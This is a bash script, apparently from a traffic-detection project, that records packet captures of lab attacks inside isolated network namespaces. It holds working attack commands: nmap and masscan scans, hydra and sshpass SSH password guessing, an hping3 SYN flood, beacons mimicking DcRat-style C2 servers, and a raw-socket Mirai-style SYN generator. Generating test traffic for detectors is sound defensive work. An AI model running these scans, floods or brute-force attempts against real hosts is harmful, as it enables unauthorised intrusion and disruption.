#!/usr/bin/env bash
# Records attacks with common programs, each alone, in its own network namespaces.
#
#   captures/tools/record-attacks.sh              record the captures of captures/ again
#   captures/tools/record-attacks.sh NAME...      record only these of them
#   captures/tools/record-attacks.sh FOLDER/ [NAME...]   record all attacks, or these, into a folder
#   captures/tools/record-attacks.sh --list       list the names
#
# Attacker (or C2 server): 203.0.113.66. Victim: 10.0.0.10, with sshd, nginx and three other ports; 10.0.0.11 and 10.0.0.12 are
# up, too, and nothing answers for the rest of 10.0.0.0/24. A user `ann` exists only inside the namespace of the victim.
# The requirements of record.sh apply. LAB=PREFIX lets several runs go on at the same time.
set -euo pipefail

readonly PACKAGES="curl ethtool hping3 hydra iproute2 masscan nginx-light nmap openssh-client openssh-server openssl python3
    sshpass tcpdump"
readonly PROGRAMS="curl ethtool hping3 hydra ip masscan nginx nmap openssl python3 ss ssh ssh-keygen sshd sshpass tcpdump"
readonly ATTACKER=203.0.113.66 VICTIM=10.0.0.10

# The captures that captures/ has.
readonly SHIPPED="attack-ssh-brute-force attack-tls-c2-server"
readonly NAMES="$SHIPPED nmap-sS nmap-sT nmap-sF nmap-sN nmap-sX nmap-sA nmap-sM nmap-sU nmap-A nmap-sn nmap-T2 masscan hydra
    hydra-t4 sshpass sshpass-whole hping3-flood dcrat self-issued tls13-beacon-10 tls13-beacon-60 http-beacon http-beacon-browser mirai"

here=$(cd "$(dirname "$0")" && pwd)
. "$here/layout.sh"
. "$here/lab.sh"

main() {
    if [ "${1:-}" = --list ]; then
        printf '%s\n' $NAMES
        return
    fi
    local folder= name names=$SHIPPED
    case ${1:-} in
    */) folder=${1%/} names=$NAMES && shift && mkdir -p "$folder" ;;
    esac
    lab_start
    trap 'lab_down; rm -rf "$tmp" "/etc/netns/$SERVER_NS"' EXIT
    mkdir -p /run/sshd # for the privilege separation of sshd
    for name in ${*:-$names}; do
        echo "== $name"
        file=${folder:+$folder/$name.pcap}
        file=${file:-$(capture "$name.pcap")}
        lab_up_as_wired
        case $name in
        nmap-s? | nmap-sn | nmap-A | nmap-T2) victim_up && start && nmap_with "-${name#nmap-}" && stop_recording ;;
        *) "record_${name//-/_}" ;;
        esac
        lab_down
    done
}

# between CLIENT SERVER: gives both namespaces a further address. The packets cross no router.
between() {
    address $CLIENT_NS hn-a "$1/32"
    address $SERVER_NS hn-b "$2/32"
    ip -n $CLIENT_NS route add default via $SERVER4 src "$1"
    ip -n $SERVER_NS route add "$1" via $CLIENT4 src "$2"
}

start() { record "$file" $CLIENT_NS hn-a -B 16384 ip; }

# Starts the victim's servers: ports 22, 80, 443 and 8080, and 21, 3306 and 8443, which accept and close.
victim_up() {
    between $ATTACKER $VICTIM
    address $SERVER_NS hn-b 10.0.0.11/32 10.0.0.12/32
    ip -n $SERVER_NS route add blackhole 10.0.0.0/24
    mkdir -p "/etc/netns/$SERVER_NS"
    { grep -v '^ann:' /etc/passwd; echo 'ann:x:4000:4000::/tmp:/bin/sh'; } >"/etc/netns/$SERVER_NS/passwd"
    { grep -v '^ann:' /etc/shadow; echo "ann:$(openssl passwd -6 sunshine):20000::::::"; } >"/etc/netns/$SERVER_NS/shadow"
    nginx_up
    [ -e "$tmp/host_key" ] || ssh-keygen -q -t ed25519 -N '' -f "$tmp/host_key"
    printf '%s\n' "HostKey $tmp/host_key" "PidFile none" "UsePAM no" "PasswordAuthentication yes" >"$tmp/sshd.conf"
    server "$(command -v sshd)" -D -f "$tmp/sshd.conf" >"$tmp/sshd.log" 2>&1 &
    server python3 - <<'PYTHON' 2>/dev/null &
import selectors, socket
ready = selectors.DefaultSelector()
for port in (21, 3306, 8443):
    ready.register(socket.create_server(("10.0.0.10", port)), selectors.EVENT_READ)
while True:
    for key, _ in ready.select():
        key.fileobj.accept()[0].close()
PYTHON
    local port
    for port in 22 8443; do
        until [ -n "$(server ss -Hlnt "sport = :$port")" ]; do sleep 0.1; done
    done
}

# nmap_with OPTION: scans the 1,000 most common ports of the victim; by UDP 100; with -sn the whole network.
nmap_with() {
    local targets="$VICTIM"
    case $1 in
    -sU) targets="-F $VICTIM" ;;
    -sn) targets=10.0.0.0/24 ;;
    esac
    client nmap -n "$1" $targets >"$tmp/nmap.log"
}

record_masscan() {
    victim_up
    start
    client masscan $VICTIM -p1-1000 --rate 200 --wait 3 -e hn-a --source-ip $ATTACKER \
        --router-mac ${SERVER_MAC//:/-} >"$tmp/masscan.log" 2>&1
    stop_recording
}

# passwords NUMBER: prints wrong passwords.
passwords() { seq -f 'wrong%g' "$1"; }

# hydra_with [OPTION...]: tries 60 wrong passwords and then the right one.
hydra_with() {
    victim_up
    start
    { passwords 60; echo sunshine; } >"$tmp/passwords"
    client hydra -I -l ann -P "$tmp/passwords" "$@" ssh://$VICTIM >"$tmp/hydra.log" 2>&1 || true
    stop_recording
}

# log_in PASSWORD [OPTION...]: tries one password.
log_in() {
    local password=$1
    shift
    client sshpass -p "$password" ssh -F none -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o PubkeyAuthentication=no \
        -o NumberOfPasswordPrompts=1 "$@" ann@$VICTIM true 2>>"$tmp/ssh.log" || true
}

record_hydra() { hydra_with; }
record_hydra_t4() { hydra_with -t 4; }

record_sshpass() {
    local password
    victim_up
    start
    for password in $(passwords 40); do log_in "$password"; done
    stop_recording
}

# The same, recorded before the kernel cuts what the programs write into segments.
record_sshpass_whole() {
    client ethtool -K hn-a tso on gso on gro on >/dev/null
    server ethtool -K hn-b tso on gso on gro on >/dev/null
    record_sshpass
}

# Twelve wrong passwords and then the right one, with a short key exchange that keeps the capture small.
record_attack_ssh_brute_force() {
    local password
    victim_up
    start
    for password in $(passwords 12) sunshine; do log_in "$password" -o KexAlgorithms=curve25519-sha256; done
    stop_recording
}

record_hping3_flood() {
    victim_up
    start
    client hping3 -q -S -p 80 --rand-source -i u2000 -c 20000 $VICTIM >"$tmp/hping3.log" 2>&1 || true
    stop_recording
}

# c2 PORT SUBJECT KEY-ARGUMENTS [S_SERVER-ARGUMENT...]: starts a TLS server with a self-issued certificate.
c2() {
    local port=$1 subject=$2 key=$3
    shift 3
    between $VICTIM $ATTACKER
    openssl req -x509 -newkey $key -nodes -days 3650 -subj "$subject" -keyout "$tmp/c2.key" -out "$tmp/c2.pem" 2>/dev/null
    server openssl s_server -www -accept $ATTACKER:"$port" -cert "$tmp/c2.pem" -key "$tmp/c2.key" "$@" >"$tmp/c2.log" 2>&1 &
    until [ -n "$(server ss -Hlnt "sport = :$port")" ]; do sleep 0.1; done
}

# call NUMBER SECONDS SHARE COMMAND...: runs a command every SECONDS, varied by up to SHARE (for example 0.2).
call() {
    python3 - "$@" <<'PYTHON'
import random, subprocess, sys, time
number, seconds, share = int(sys.argv[1]), float(sys.argv[2]), float(sys.argv[3])
at = time.monotonic()
for _ in range(number):
    subprocess.run(sys.argv[4:], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    at += seconds * random.uniform(1 - share, 1 + share)
    time.sleep(max(0, at - time.monotonic()))
PYTHON
}

readonly IN_CLIENT="ip netns exec $CLIENT_NS"
s_client() { echo "$IN_CLIENT timeout 2 openssl s_client -connect $ATTACKER:$1 -noservername ${*:2}"; }

record_dcrat() {
    c2 7084 /CN=DcRat rsa:1024 -tls1_2 -cipher DEFAULT@SECLEVEL=0
    start
    call 30 3.5 0 $(s_client 7084 -cipher DEFAULT@SECLEVEL=0)
    stop_recording
}

# No name of a C2 program: the marks of the server alone tell.
self_issued() {
    c2 7084 /CN=localhost rsa:1024 -tls1_2 -cipher DEFAULT@SECLEVEL=0
    start
    call "$1" "$2" 0 $(s_client 7084 -cipher DEFAULT@SECLEVEL=0)
    stop_recording
}
record_self_issued() { self_issued 14 3.5; }
record_attack_tls_c2_server() { self_issued 3 0.5; }

# tls13_beacon SECONDS
tls13_beacon() {
    c2 50443 /CN=update rsa:2048 -tls1_3
    start
    call 22 "$1" 0.2 $(s_client 50443)
    stop_recording
}
record_tls13_beacon_10() { tls13_beacon 10; }
record_tls13_beacon_60() { tls13_beacon 60; }

# http_beacon CURL-ARGUMENT...
http_beacon() {
    between $VICTIM $ATTACKER
    nginx_up
    start
    call 22 10 0 $IN_CLIENT curl -s "$@" http://$ATTACKER/
    stop_recording
}
record_http_beacon() { http_beacon; }
record_http_beacon_browser() {
    http_beacon -A "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"
}

# SYNs as Mirai sends them: the sequence number is the address of the target, and the source port stays the same.
record_mirai() {
    victim_up
    start
    client python3 - <<'PYTHON'
import random, socket, struct, time
source, port = socket.inet_aton("203.0.113.66"), random.randrange(1024, 65536)
out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
def checksum(data):
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16: total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff
window = random.randrange(1024, 65536)
for last in random.sample(range(1, 255), 200):
    to = socket.inet_aton(f"10.0.0.{last}")
    segment = struct.pack(">HHIIBBHHH", port, random.choice([23] * 8 + [2323, 8080]), struct.unpack(">I", to)[0], 0, 0x50, 2, window, 0, 0)
    sum_of = checksum(source + to + struct.pack(">HH", 6, 20) + segment)
    segment = segment[:16] + struct.pack(">H", sum_of) + segment[18:]
    head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 40, random.randrange(65536), 0, 64, 6, 0, source, to)
    out.sendto(head + segment, (socket.inet_ntoa(to), 0))
    time.sleep(1 / 160)
time.sleep(3)
PYTHON
    # Another request later: a capture that ends with the last SYN leaves no time for answers.
    client curl -so "$tmp/page" --interface $CLIENT4 http://$SERVER4/
    stop_recording
}

main "$@"
